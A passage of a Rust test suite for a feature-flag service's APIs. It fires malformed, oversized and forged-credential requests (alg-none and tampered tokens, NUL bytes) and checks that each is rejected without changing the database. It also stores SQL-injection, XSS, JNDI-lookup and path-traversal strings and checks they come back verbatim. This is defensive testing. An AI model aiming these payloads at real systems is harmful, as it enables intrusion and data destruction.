            "/admin/flags/%00?environment=production",
        )
        .json(json!({"enabled": false}))
        .bad_parameter("flag_key"),
        req(
            "delete flag: NUL as the key",
            Method::DELETE,
            "/admin/flags/%00?environment=production",
        )
        .bad_parameter("flag_key"),
        req(
            "history: NUL as the key",
            Method::GET,
            "/admin/flags/%00/history?environment=production",
        )
        .bad_parameter("flag_key"),
        req(
            "history: a cursor that is no number",
            Method::GET,
            "/admin/flags/theme/history?environment=production&cursor=abc",
        )
        .bad_parameter("query"),
        req(
            "history: a negative cursor",
            Method::GET,
            "/admin/flags/theme/history?environment=production&cursor=-1",
        )
        .bad_parameter("query"),
        req(
            "history: a cursor beyond u64",
            Method::GET,
            "/admin/flags/theme/history?environment=production&cursor=99999999999999999999",
        )
        .bad_parameter("query"),
        req(
            "history: the largest cursor",
            Method::GET,
            "/admin/flags/theme/history?environment=production&cursor=18446744073709551615",
        )
        .expect(200, ""),
        req(
            "list overrides: NUL as the key",
            Method::GET,
            "/admin/flags/%00/overrides?environment=production",
        )
        .bad_parameter("flag_key"),
        req(
            "set override: NUL as the user",
            Method::PUT,
            "/admin/flags/theme/overrides/u%001?environment=production",
        )
        .json(json!({"variation": "dark"}))
        .bad_parameter("user_id"),
        req(
            "delete override: NUL as the user",
            Method::DELETE,
            "/admin/flags/theme/overrides/%00?environment=production",
        )
        .bad_parameter("user_id"),
        req(
            "get segment: NUL as the key",
            Method::GET,
            "/admin/segments/%00?environment=production",
        )
        .bad_parameter("segment_key"),
        req(
            "delete segment: NUL as the key",
            Method::DELETE,
            "/admin/segments/%00?environment=production",
        )
        .bad_parameter("segment_key"),
        req(
            "get environment: NUL as the key",
            Method::GET,
            "/admin/environments/%00",
        )
        .bad_parameter("environment"),
        req(
            "get environment: invalid UTF-8",
            Method::GET,
            "/admin/environments/%C3%28",
        )
        .bad_parameter("path"),
        req(
            "rename environment: NUL as the key",
            Method::PUT,
            "/admin/environments/%00",
        )
        .json(json!({"name": "x"}))
        .bad_parameter("environment"),
        req(
            "delete environment: NUL as the key",
            Method::DELETE,
            "/admin/environments/pro%00duction",
        )
        .bad_parameter("environment"),
        req(
            "list client keys: NUL as the environment",
            Method::GET,
            "/admin/environments/%00/client-keys",
        )
        .bad_parameter("environment"),
        req(
            "revoke client key: NUL as the name",
            Method::DELETE,
            format!("{CLIENT_KEYS}/%00"),
        )
        .bad_parameter("name"),
        req(
            "copy: NUL as the key",
            Method::POST,
            "/admin/flags/%00/copy",
        )
        .json(json!({"from": "production", "to": "staging"}))
        .bad_parameter("flag_key"),
        req("an unknown admin route", Method::GET, "/admin/%00").expect(404, "ROUTE_NOT_FOUND"),
    ]
}

/// Query parameters, cursors and `If-Match` values that name nothing usable: 400 naming them.
fn bad_parameters() -> Vec<Row> {
    let huge = "e".repeat(10_000);
    vec![
        req(
            "list flags: NUL as the environment",
            Method::GET,
            "/admin/flags?environment=%00",
        )
        .bad_parameter("environment"),
        req(
            "list flags: a 10,000-byte environment",
            Method::GET,
            format!("/admin/flags?environment={huge}"),
        )
        .bad_parameter("environment"),
        req(
            "list flags: an empty environment",
            Method::GET,
            "/admin/flags?environment=",
        )
        .expect(404, "ENVIRONMENT_NOT_FOUND"),
        req("list flags: no environment", Method::GET, "/admin/flags").bad_parameter("environment"),
        req(
            "list flags: the environment twice",
            Method::GET,
            "/admin/flags?environment=production&environment=staging",
        )
        .bad_parameter("query"),
        // form decoding replaces invalid UTF-8 by U+FFFD: a key that cannot exist
        req(
            "list flags: invalid UTF-8 in the query",
            Method::GET,
            "/admin/flags?environment=%FF",
        )
        .expect(404, "ENVIRONMENT_NOT_FOUND"),
        req(
            "list flags: limit 0",
            Method::GET,
            format!("{FLAGS}&limit=0"),
        )
        .bad_parameter("limit"),
        req(
            "list flags: limit -1",
            Method::GET,
            format!("{FLAGS}&limit=-1"),
        )
        .bad_parameter("limit"),
        req(
            "list flags: limit 1001",
            Method::GET,
            format!("{FLAGS}&limit=1001"),
        )
        .bad_parameter("limit"),
        req(
            "list flags: limit that is no number",
            Method::GET,
            format!("{FLAGS}&limit=ten"),
        )
        .bad_parameter("query"),
        req(
            "list flags: limit beyond i64",
            Method::GET,
            format!("{FLAGS}&limit=99999999999999999999"),
        )
        .bad_parameter("query"),
        req(
            "list flags: NUL in the cursor",
            Method::GET,
            format!("{FLAGS}&cursor=a%00"),
        )
        .bad_parameter("cursor"),
        req(
            "list flags: a 10,000-byte cursor",
            Method::GET,
            format!("{FLAGS}&cursor={huge}"),
        )
        .bad_parameter("cursor"),
        req(
            "list segments: NUL in the cursor",
            Method::GET,
            format!("{SEGMENTS}&cursor=%00"),
        )
        .bad_parameter("cursor"),
        req(
            "get flag: NUL as the environment",
            Method::GET,
            "/admin/flags/theme?environment=production%00",
        )
        .bad_parameter("environment"),
        req(
            "update flag: NUL as the environment",
            Method::PUT,
            "/admin/flags/theme?environment=%00",
        )
        .json(json!({"enabled": false}))
        .bad_parameter("environment"),
        req(
            "delete flag: NUL as the environment",
            Method::DELETE,
            "/admin/flags/theme?environment=%00",
        )
        .bad_parameter("environment"),
        req(
            "create segment: NUL as the environment",
            Method::POST,
            "/admin/segments?environment=%00",
        )
        .json(json!({"segmentKey": "s"}))
        .bad_parameter("environment"),
        req(
            "history: NUL as the environment",
            Method::GET,
            "/admin/flags/theme/history?environment=%00",
        )
        .bad_parameter("environment"),
        req(
            "audit: NUL as the actor",
            Method::GET,
            format!("{AUDIT}?actor=%00"),
        )
        .bad_parameter("actor"),
        req(
            "audit: NUL as the environment",
            Method::GET,
            format!("{AUDIT}?environment=%00"),
        )
        .bad_parameter("environment"),
        req(
            "audit: NUL as the entity key",
            Method::GET,
            format!("{AUDIT}?entityKey=a%00"),
        )
        .bad_parameter("entityKey"),
        req(
            "audit: NUL as the flag key",
            Method::GET,
            format!("{AUDIT}?flagKey=%00"),
        )
        .bad_parameter("flagKey"),
        req(
            "audit: NUL as the segment key",
            Method::GET,
            format!("{AUDIT}?segmentKey=%00"),
        )
        .bad_parameter("segmentKey"),
        req(
            "audit: a 10,000-byte actor",
            Method::GET,
            format!("{AUDIT}?actor={huge}"),
        )
        .bad_parameter("actor"),
        req(
            "audit: an unknown entity type",
            Method::GET,
            format!("{AUDIT}?entityType=user"),
        )
        .bad_parameter("entityType"),
        req(
            "audit: from is no timestamp",
            Method::GET,
            format!("{AUDIT}?from=yesterday"),
        )
        .bad_parameter("from"),
        req("audit: NUL as to", Method::GET, format!("{AUDIT}?to=%00")).bad_parameter("to"),
        req(
            "audit: a cursor that is no number",
            Method::GET,
            format!("{AUDIT}?cursor=abc"),
        )
        .bad_parameter("query"),
        req(
            "audit: a fractional cursor",
            Method::GET,
            format!("{AUDIT}?cursor=1.5"),
        )
        .bad_parameter("query"),
        req(
            "audit: the smallest cursor",
            Method::GET,
            format!("{AUDIT}?cursor=-9223372036854775808"),
        )
        .expect(200, ""),
        req("audit: limit 0", Method::GET, format!("{AUDIT}?limit=0")).bad_parameter("limit"),
        req(
            "audit: contradicting filters",
            Method::GET,
            format!("{AUDIT}?flagKey=a&entityType=segment"),
        )
        .bad_parameter("flagKey"),
        req(
            "update flag: If-Match that is no version",
            Method::PUT,
            THEME,
        )
        .header("if-match", "abc")
        .json(json!({"enabled": false}))
        .bad_parameter("If-Match"),
        req("update flag: a negative If-Match", Method::PUT, THEME)
            .header("if-match", "-1")
            .json(json!({"enabled": false}))
            .bad_parameter("If-Match"),
        req("update flag: If-Match beyond u64", Method::PUT, THEME)
            .header("if-match", "99999999999999999999")
            .json(json!({"enabled": false}))
            .bad_parameter("If-Match"),
        req("update flag: If-Match of two versions", Method::PUT, THEME)
            .header("if-match", "1, 2")
            .json(json!({"enabled": false}))
            .bad_parameter("If-Match"),
        req("update flag: an empty weak If-Match", Method::PUT, THEME)
            .header("if-match", "W/")
            .json(json!({"enabled": false}))
            .bad_parameter("If-Match"),
        req(
            "update flag: If-Match with non-ASCII bytes",
            Method::PUT,
            THEME,
        )
        .header("if-match", b"\"\xE9\"".to_vec())
        .json(json!({"enabled": false}))
        .bad_parameter("If-Match"),
        req("update flag: a 10,000-digit If-Match", Method::PUT, THEME)
            .header("if-match", "9".repeat(10_000))
            .json(json!({"enabled": false}))
            .bad_parameter("If-Match"),
        req("update flag: the largest If-Match", Method::PUT, THEME)
            .header("if-match", "18446744073709551615")
            .json(json!({"enabled": false}))
            .expect(409, "VERSION_CONFLICT"),
        req("delete flag: the largest If-Match", Method::DELETE, THEME)
            .header("if-match", "\"18446744073709551615\"")
            .expect(409, "VERSION_CONFLICT"),
        req("delete segment: If-Match 0", Method::DELETE, SEGMENT)
            .header("if-match", "0")
            .expect(409, "VERSION_CONFLICT"),
    ]
}

/// Forged, expired and malformed credentials (401), and valid ones without the right (403).
fn credentials(t: &Tokens) -> Vec<Row> {
    let unauthorized = |name: &str, row: Row| {
        let mut row = row.expect(401, "UNAUTHORIZED");
        row.name = format!("{name}: {}", row.name);
        row
    };
    let get = || req("get flag", Method::GET, FLAG);
    let mut rows = vec![
        unauthorized("no token", get().anonymous()),
        unauthorized("an empty bearer", get().authorization("Bearer ")),
        unauthorized(
            "basic credentials",
            get().authorization("Basic YWxpY2U6cHc="),
        ),
        unauthorized("garbage", get().bearer("garbage")),
        unauthorized("three empty parts", get().bearer("..")),
        unauthorized("expired", get().bearer(&t.expired)),
        unauthorized("signed with another secret", get().bearer(&t.foreign)),
        unauthorized("alg none", get().bearer(&t.alg_none)),
        unauthorized("a tampered payload", get().bearer(&t.tampered)),
        unauthorized("HS512", get().bearer(&t.hs512)),
        unauthorized("a foreign issuer", get().bearer(&t.wrong_issuer)),
        unauthorized("a foreign audience", get().bearer(&t.wrong_audience)),
        unauthorized("no subject", get().bearer(&t.no_subject)),
        unauthorized("an empty subject", get().bearer(&t.empty_subject)),
        unauthorized("an unknown role", get().bearer(&t.unknown_role)),
        unauthorized("a 20,000-byte token", get().bearer(&"a".repeat(20_000))),
        unauthorized(
            "non-ASCII bytes",
            get().authorization(b"Bearer \xFF\xFE".to_vec()),
        ),
        unauthorized(
            "alg none on a write",
            req("create flag", Method::POST, FLAGS)
                .json(json!({"flagKey": "x"}))
                .bearer(&t.alg_none),
        ),
    ];
    let forbidden = |row: Row| row.expect(403, "FORBIDDEN");
    rows.extend([
        forbidden(
            req("viewer updates a flag", Method::PUT, THEME)
                .json(json!({"enabled": false}))
                .bearer(&t.viewer),
        ),
        forbidden(
            req("viewer creates a flag", Method::POST, FLAGS)
                .json(json!({"flagKey": "x"}))
                .bearer(&t.viewer),
        ),
        forbidden(req("viewer deletes a segment", Method::DELETE, SEGMENT).bearer(&t.viewer)),
        forbidden(
            req("viewer sets an override", Method::PUT, OVERRIDE)
                .json(json!({"variation": "dark"}))
                .bearer(&t.viewer),
        ),
        forbidden(
            req(
                "staging editor updates a production flag",
                Method::PUT,
                THEME,
            )
            .json(json!({"enabled": false}))
            .bearer(&t.staging_editor),
        ),
        forbidden(
            req(
                "staging editor names production in the body",
                Method::POST,
                "/admin/flags",
            )
            .json(json!({"flagKey": "x", "environment": "production"}))
            .bearer(&t.staging_editor),
        ),
        forbidden(
            req("staging editor reads production", Method::GET, FLAG).bearer(&t.staging_editor),
        ),
        forbidden(
            req("staging editor copies into production", Method::POST, COPY)
                .json(json!({"from": "staging", "to": "production"}))
                .bearer(&t.staging_editor),
        ),
        forbidden(
            req("editor creates an environment", Method::POST, ENVIRONMENTS)
                .json(json!({"key": "qa"}))
                .bearer(&t.staging_editor),
        ),
        forbidden(
            req(
                "editor lists client keys",
                Method::GET,
                "/admin/environments/staging/client-keys",
            )
            .bearer(&t.staging_editor),
        ),
        forbidden(
            req(
                "restricted admin creates an environment",
                Method::POST,
                ENVIRONMENTS,
            )
            .json(json!({"key": "qa"}))
            .bearer(&t.staging_admin),
        ),
        forbidden(
            req(
                "restricted admin reads production's audit",
                Method::GET,
                format!("{AUDIT}?environment=production"),
            )
            .bearer(&t.staging_admin),
        ),
        forbidden(
            req(
                "restricted admin deletes production",
                Method::DELETE,
                ENVIRONMENT,
            )
            .bearer(&t.staging_admin),
        ),
    ]);
    rows
}

/// Subjects the database cannot store as an actor (`created_by`, the indexed `audit_log.actor`),
/// in tokens signed with the right secret: refused as unusable before any write.
fn unstorable_subjects(t: &Tokens) -> Vec<Row> {
    let create = || req("create flag", Method::POST, FLAGS).json(json!({"flagKey": "x"}));
    vec![
        create().bearer(&t.nul_subject).expect(401, "UNAUTHORIZED"),
        create().bearer(&t.huge_subject).expect(401, "UNAUTHORIZED"),
    ]
}

/// The origin's evaluation API, REST and OFREP: malformed requests get its documented codes.
fn evaluation() -> Vec<Row> {
    let big = format!("{{\"context\":{{\"a\":\"{}\"}}}}", "x".repeat(70 * 1024));
    vec![
        req(
            "REST: NUL as the flag key",
            Method::GET,
            "/api/v1/flags/a%00?environment=production",
        )
        .expect(400, "INVALID_FLAG_KEY"),
        req(
            "REST: a 256-character flag key",
            Method::GET,
            format!("/api/v1/flags/{}?environment=production", "k".repeat(256)),
        )
        .expect(400, "INVALID_FLAG_KEY"),
        req(
            "REST: a script tag as the flag key",
            Method::GET,
            format!("/api/v1/flags/{}?environment=production", pct("<script>")),
        )
        .expect(400, "INVALID_FLAG_KEY"),
        req(
            "REST: NUL as the environment",
            Method::GET,
            "/api/v1/flags/theme?environment=%00",
        )
        .expect(400, "INVALID_ENVIRONMENT"),
        req(
            "REST: no environment",
            Method::GET,
            "/api/v1/flags/theme?userId=u1",
        )
        .expect(400, "MISSING_ENVIRONMENT"),
        req(
            "REST: invalid UTF-8 in the query",
            Method::GET,
            "/api/v1/flags/theme?environment=production&userId=%FF",
        )
        .expect(400, "INVALID_QUERY"),
        req("REST: a malformed client key", Method::GET, REST_FLAG)
            .header("x-client-key", "efk.production.nothex")
            .expect(401, "INVALID_CLIENT_KEY"),
        req("REST: an unknown client key", Method::GET, REST_FLAG)
            .header(
                "x-client-key",
                "efk.production.00000000000000000000000000000000",
            )
            .expect(401, "INVALID_CLIENT_KEY"),
        req(
            "REST: a client key of another environment",
            Method::GET,
            REST_FLAG,
        )
        .header(
            "x-client-key",
            "efk.staging.00000000000000000000000000000000",
        )
        .expect(403, "FORBIDDEN_ENVIRONMENT"),
        req("REST: DELETE on a flag", Method::DELETE, REST_FLAG).expect(405, "METHOD_NOT_ALLOWED"),
        req("REST: an unknown route", Method::GET, "/api/v1/%00").expect(404, "NOT_FOUND"),
        req("REST batch: truncated JSON", Method::POST, REST_BATCH)
            .raw("{\"environment\":")
            .expect(400, "INVALID_JSON"),
        req("REST batch: an array body", Method::POST, REST_BATCH)
            .json(json!([]))
            .expect(400, "INVALID_FIELD")
            .field("body"),
        req("REST batch: flagKeys is a string", Method::POST, REST_BATCH)
            .json(json!({"environment": "production", "flagKeys": "theme"}))
            .expect(400, "INVALID_FIELD"),
        req(
            "REST batch: flagKeys holds a number",
            Method::POST,
            REST_BATCH,
        )
        .json(json!({"environment": "production", "flagKeys": [1]}))
        .expect(400, "INVALID_FIELD"),
        req("REST batch: userId is a number", Method::POST, REST_BATCH)
            .json(json!({"environment": "production", "userId": 5}))
            .expect(400, "INVALID_FIELD"),
        req("REST batch: context is an array", Method::POST, REST_BATCH)
            .json(json!({"environment": "production", "context": []}))
            .expect(400, "INVALID_FIELD"),
        req(
            "REST batch: environment is a number",
            Method::POST,
            REST_BATCH,
        )
        .json(json!({"environment": 5}))
        .expect(400, "INVALID_FIELD"),
        req(
            "REST batch: NUL as the environment",
            Method::POST,
            REST_BATCH,
        )
        .json(json!({"environment": "production\u{0}"}))
        .expect(400, "INVALID_ENVIRONMENT"),
        req("REST batch: invalid UTF-8", Method::POST, REST_BATCH)
            .raw(b"{\"environment\":\"\xFF\"}".to_vec())
            .expect(400, "INVALID_JSON"),
        req(
            "REST batch: 200 nested arrays in the context",
            Method::POST,
            REST_BATCH,
        )
        .raw(format!(
            "{{\"environment\":\"production\",\"context\":{{\"a\":{}}}}}",
            nested(200, "1")
        ))
        .expect(400, "INVALID_JSON"),
        req("REST batch: a 70 KiB body", Method::POST, REST_BATCH)
            .raw(big.clone())
            .expect(413, "PAYLOAD_TOO_LARGE"),
        req(
            "REST batch: GET without an environment",
            Method::GET,
            REST_BATCH,
        )
        .expect(400, "MISSING_ENVIRONMENT"),
        req("OFREP: truncated JSON", Method::POST, OFREP_FLAG)
            .raw("{\"context\":")
            .expect(400, "PARSE_ERROR"),
        req("OFREP: plain text", Method::POST, OFREP_FLAG)
            .raw("context")
            .expect(400, "PARSE_ERROR"),
        req("OFREP: context is a string", Method::POST, OFREP_FLAG)
            .json(json!({"context": "x"}))
            .expect(400, "INVALID_CONTEXT"),
        req("OFREP: targetingKey is a number", Method::POST, OFREP_FLAG)
            .json(json!({"context": {"targetingKey": 5, "environment": "production"}}))
            .expect(400, "INVALID_CONTEXT"),
        req("OFREP: environment is a number", Method::POST, OFREP_FLAG)
            .json(json!({"context": {"environment": 5}}))
            .expect(400, "INVALID_CONTEXT"),
        req("OFREP: NUL as the environment", Method::POST, OFREP_FLAG)
            .json(json!({"context": {"environment": "\u{0}"}}))
            .expect(400, "INVALID_CONTEXT"),
        req(
            "OFREP: NUL as the flag key",
            Method::POST,
            "/ofrep/v1/evaluate/flags/a%00",
        )
        .json(json!({"context": {"environment": "production"}}))
        .expect(404, "FLAG_NOT_FOUND"),
        req(
            "OFREP: a 256-character flag key",
            Method::POST,
            format!("/ofrep/v1/evaluate/flags/{}", "k".repeat(256)),
        )
        .json(json!({"context": {"environment": "production"}}))
        .expect(404, "FLAG_NOT_FOUND"),
        req("OFREP: a 70 KiB body", Method::POST, OFREP_FLAG)
            .raw(big.clone())
            .expect(413, "GENERAL"),
        req("OFREP bulk: an array body", Method::POST, OFREP_BULK)
            .json(json!([1]))
            .expect(400, "INVALID_CONTEXT"),
        req("OFREP bulk: 200 nested arrays", Method::POST, OFREP_BULK)
            .raw(format!(
                "{{\"context\":{{\"environment\":\"production\",\"a\":{}}}}}",
                nested(200, "1")
            ))
            .expect(400, "PARSE_ERROR"),
        req("OFREP bulk: a 70 KiB body", Method::POST, OFREP_BULK)
            .raw(big)
            .expect(413, "GENERAL"),
        req("OFREP bulk: GET", Method::GET, OFREP_BULK).expect(405, "GENERAL"),
    ]
}

/// The error code of any of the origin's answers: admin and REST `error.code`, OFREP `errorCode`.
fn code_of(body: &Value) -> &str {
    body["error"]["code"]
        .as_str()
        .or_else(|| body["errorCode"].as_str())
        .unwrap_or("")
}

/// The field an error names: `error.field`, or the first validation detail's.
fn field_of(body: &Value) -> Option<&str> {
    body["error"]["field"]
        .as_str()
        .or_else(|| body["error"]["details"][0]["field"].as_str())
}

/// The environment the table runs against: the checkout flag and its segments, a multivariate
/// flag `theme` with an override for `u1`, a client key, and an empty `staging`.
async fn hostile_app(pool: PgPool) -> TestApp {
    let app = with_checkout_flag(pool).await;
    app.create_flag(
        "production",
        json!({"flagKey": "theme", "enabled": true,
            "variations": [{"key": "light", "value": "light"}, {"key": "dark", "value": "dark"}],
            "defaultVariation": "light", "onVariation": "dark",
            "overrides": [{"userId": "u1", "variation": "dark"}]}),
    )
    .await;
    app.create_client_key("production", "web").await;
    app.create_environment("staging").await;
    app
}

async fn send(app: &TestApp, row: &Row) -> common::TestResponse {
    let mut builder = Request::builder()
        .method(row.method.clone())
        .uri(row.uri.as_str());
    let admin = format!("Bearer {}", app.admin_token());
    let authorization = match &row.auth {
        Auth::Admin => Some(admin.into_bytes()),
        Auth::Anonymous => None,
        Auth::Header(value) => Some(value.clone()),
    };
    if let Some(value) = authorization {
        builder = builder.header("authorization", HeaderValue::from_bytes(&value).unwrap());
    }
    if row.body.is_some() {
        builder = builder.header("content-type", "application/json");
    }
    for (name, value) in &row.headers {
        builder = builder.header(*name, HeaderValue::from_bytes(value).unwrap());
    }
    let body = row.body.clone().map_or_else(Body::empty, Body::from);
    app.send_request(builder.body(body).unwrap()).await
}

/// Sends every row and asserts each got its status, code and field (and no 5xx), reporting all
/// the rows that did not at once.
async fn assert_answers(app: &TestApp, rows: &[Row]) {
    let mut failures = Vec::new();
    for row in rows {
        let response = send(app, row).await;
        let status = response.status.as_u16();
        let code = code_of(&response.body);
        let field = field_of(&response.body);
        let wrong = status >= 500
            || status != row.status
            || code != row.code
            || (row.field.is_some() && field != row.field.as_deref());
        if wrong {
            let mut text = response.text.clone();
            text.truncate(300);
            failures.push(format!(
                "{}: expected {} {} {:?}, got {status} {code} {field:?}: {text}",
                row.name, row.status, row.code, row.field
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} rows failed:\n{}",
        failures.len(),
        rows.len(),
        failures.join("\n")
    );
}

#[sqlx::test(migrations = "../migrations")]
async fn hostile_requests_get_their_documented_error_and_change_nothing(pool: PgPool) {
    let app = hostile_app(pool.clone()).await;
    let tokens = Tokens::new(&app);
    let rows: Vec<Row> = [
        malformed_json(),
        wrong_types(),
        unstorable_characters(),
        oversized(),
        injection_strings(),
        bad_paths(),
        bad_parameters(),
        credentials(&tokens),
        evaluation(),
    ]
    .into_iter()
    .flatten()
    .collect();
    assert!(rows.len() >= 150, "only {} rows", rows.len());
    let before = common::dump(&pool).await;
    assert_answers(&app, &rows).await;
    assert_eq!(
        common::dump(&pool).await,
        before,
        "a hostile request changed the database"
    );
}

#[sqlx::test(migrations = "../migrations")]
async fn tokens_whose_subject_cannot_be_stored_are_refused(pool: PgPool) {
    let app = hostile_app(pool.clone()).await;
    let rows = unstorable_subjects(&Tokens::new(&app));
    let before = common::dump(&pool).await;
    assert_answers(&app, &rows).await;
    assert_eq!(common::dump(&pool).await, before);
}

/// Strings that are unusual but storable: each is stored and answered back byte for byte, and
/// evaluates like any other string.
#[sqlx::test(migrations = "../migrations")]
async fn sql_script_and_unicode_strings_are_stored_verbatim(pool: PgPool) {
    let app = hostile_app(pool).await;
    let strings = [
        "'; drop table feature_flag; --",
        "\" OR \"\"=\"",
        "Robert'); DROP TABLE flag_override;--",
        "1; select pg_sleep(10)",
        "$$ language plpgsql $$",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "{{7*7}} ${jndi:ldap://x/a}",
        "%00 \\u0000 \\x00",
        "../../etc/passwd",
        "\u{202E}evil\u{202C}",
        "a\u{200B}b\u{FEFF}c",
        "\u{1F469}\u{200D}\u{1F469}\u{200D}\u{1F467}",
        "e\u{301}\u{301}\u{301}",
        "line\u{2028}separator\u{2029}",
        "\u{1}\u{1F}\u{7F}\u{9F}",
        "tab\tnew\nline\rreturn",
        "\u{FFFF}\u{FFFE}\u{10FFFF}",
        "\u{1D518}\u{1D51E}",
        "quote \" backslash \\ slash /",
    ];
    for (i, s) in strings.iter().enumerate() {
        let key = format!("verbatim-{i}");
        let created = app
            .post(
                FLAGS,
                json!({"flagKey": key, "description": s, "enabled": true,
                    "variations": [{"key": "a", "value": s}, {"key": "b", "value": format!("{s}!")}],
                    "defaultVariation": "b", "onVariation": "b",
                    "targetingRules": {"userIds": [s], "rules": [{"description": s, "clauses": [
                        {"attribute": s, "operator": "in", "values": [s]}], "variation": "a"}]}}),
            )
            .await;
        created.assert_status(StatusCode::CREATED);
        let read = app
            .get(&format!("/admin/flags/{key}?environment=production"))
            .await;
        read.assert_status(StatusCode::OK);
        assert_eq!(read.body["description"], *s, "{s:?}");
        assert_eq!(read.body["variations"][0]["value"], *s, "{s:?}");
        assert_eq!(
            read.body["targetingRules"]["rules"][0]["clauses"][0]["values"][0], *s,
            "{s:?}"
        );
        let user = format!(
            "/admin/flags/{key}/overrides/{}?environment=production",
            pct(s)
        );
        app.put(&user, json!({"variation": "a"}))
            .await
            .assert_status(StatusCode::CREATED);
        let overrides = app
            .get(&format!(
                "/admin/flags/{key}/overrides?environment=production"
            ))
            .await;
        assert_eq!(overrides.body["overrides"][0]["userId"], *s, "{s:?}");
        let evaluated = app
            .public(
                Method::GET,
                &format!(
                    "/api/v1/flags/{key}?environment=production&userId=u9&{}={}",
                    pct(s),
                    pct(s)
                ),
                None,
                &[],
            )
            .await;
        evaluated.assert_status(StatusCode::OK);
        assert_eq!(
            evaluated.body["value"], *s,
            "the rule matched the attribute {s:?}"
        );
        let renamed = app.put(ENVIRONMENT, json!({"name": s})).await;
        renamed.assert_status(StatusCode::OK);
        assert_eq!(app.get(ENVIRONMENT).await.body["name"], *s, "{s:?}");
        let audit = app
            .get(&format!("{AUDIT}?flagKey={key}&environment=production"))
            .await;
        audit.assert_status(StatusCode::OK);
        assert!(
            audit.text.contains(&serde_json::to_string(s).unwrap()[1..]),
            "{s:?}"
        );
    }
}
